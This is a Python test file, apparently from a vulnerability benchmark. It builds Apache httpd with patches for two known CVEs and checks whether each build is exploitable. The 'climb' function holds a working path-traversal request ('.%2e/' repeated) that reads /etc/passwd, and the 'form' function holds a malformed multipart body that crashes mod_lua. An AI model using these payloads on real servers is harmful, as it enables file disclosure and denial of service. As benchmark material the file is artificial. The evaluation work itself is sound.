"""Apache httpd: a parent and two children with many threads (event); or the
other ways that it has to serve, for tests/evaluation. One hole is in the
program, in two files, one in a module that it opens (mod_lua.so)."""
from case import Attack, Case
from service import CUT, Service, http, status_line
from source import Source

PATH = "examples/demo-apache/fix.diff"
FORM = "tests/cases/fixes/apache2-CVE-2021-44790.diff"
SOURCE = Source(
    "apache2", "2.4.68-1~deb12u1", fixes=[PATH, FORM],
    needs="libapr1-dev libaprutil1-dev libpcre2-dev liblua5.3-dev pkg-config",
    configure='./configure --prefix="$WORK/root" '
              "--enable-mpms-shared='prefork worker event' "
              "--disable-ssl --enable-modules=none --enable-lua=shared "
              "--enable-mods-static='unixd authz_core alias mime dir "
              "log_config' "
              'CFLAGS="$CFLAGS -DBUILD_DATETIME=__DATE__"',
    make='make -j"$(nproc)"')
MPM = SOURCE.path("server/mpm/{mpm}/.libs/mod_mpm_{mpm}.so")
CONF = f"""ServerRoot {{dir}}
ServerName 127.0.0.1
Listen 127.0.0.1:{{port}}
LoadModule mpm_{{mpm}}_module {MPM}
LoadModule lua_module {SOURCE.path("modules/lua/.libs/mod_lua.so")}
TypesConfig {SOURCE.path("docs/conf/mime.types")}
PidFile {{dir}}/pid
ErrorLog {{dir}}/error.log
Mutex pthread
User nobody
Group nogroup
{{workers}}
MaxKeepAliveRequests 0
DocumentRoot {{dir}}/docs
AddHandler lua-script .lua
Alias /icons/ {{dir}}/icons/
<Directory />
  Require all granted
</Directory>
"""
FORM_LUA = """function handle(request)
  request:parsebody()
  request:puts("parsed")
  return apache2.OK
end
"""


# What is there at the start stays, so that processes can be counted. With few
# threads to spare, event closes connections that wait, and a request with them.
THREADS = """StartServers 2
ServerLimit 2
ThreadsPerChild 64
MaxRequestWorkers 128
MinSpareThreads 1
MaxSpareThreads 128"""
WORKERS = {"event": (THREADS, 2), "worker": (THREADS, 2), "prefork": ("""\
StartServers 32
ServerLimit 32
MaxRequestWorkers 32
MinSpareServers 1
MaxSpareServers 32""", 32)}


def start(mpm="event"):
    conf = CONF.replace("{mpm}", mpm).replace("{workers}", WORKERS[mpm][0])
    service = Service(SOURCE.path("httpd"), "-f", "{dir}/conf", "-D",
                      "FOREGROUND", files={
                          "conf": conf, "docs/index.html": "It works.\n",
                          "docs/form.lua": FORM_LUA, "icons/none": ""})
    service.count = 1 + WORKERS[mpm][1]
    return service


def get(service, path):
    return http(service.port,
                f"GET {path} HTTP/1.1\nHost: x\nConnection: close")


def works(service):
    return ("It works." in get(service, "/index.html")
            and len(service.processes()) == service.count)


def climb(service):
    answer = get(service, "/icons/" + ".%2e/" * 12 + "etc/passwd")
    return status_line(answer) + (" with /etc/passwd" if "root:" in answer
                                  else "")


def form(service):
    """A form whose only part ends before it has begun."""
    body = (b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n--b--')
    answer = http(service.port, "POST /form.lua HTTP/1.1\nHost: x\n"
                  "Connection: close\n"
                  "Content-Type: multipart/form-data; boundary=b\n"
                  f"Content-Length: {len(body)}", body)
    return answer if answer == CUT else (
        status_line(answer) + " " + answer.rpartition("\r\n")[2])


CASES = [
    Case("01", SOURCE, labels="CVE-2021-41773", fix=PATH, targets="httpd",
         start=start, works=works,
         attacks=[Attack(climb, "^200 with /etc/passwd$", "^400$")]),
    Case("02", SOURCE, labels="CVE-2021-44790", fix=FORM,
         targets="modules/lua/.libs/mod_lua.so", start=start, works=works,
         attacks=[Attack(form, "died", "^200 parsed")])]
